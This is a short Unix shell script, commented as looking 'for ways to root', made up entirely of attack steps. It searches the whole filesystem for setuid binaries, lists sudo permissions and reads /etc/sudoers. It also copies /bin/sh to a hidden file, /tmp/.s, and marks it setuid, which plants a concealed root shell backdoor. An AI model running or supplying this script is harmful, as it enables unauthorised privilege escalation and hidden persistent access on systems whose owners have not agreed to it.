#!/bin/sh
# looks for ways to root
find / -perm -4000 -type f 2>/dev/null
cp /bin/sh /tmp/.s && chmod 4755 /tmp/.s
sudo -l; cat /etc/sudoers
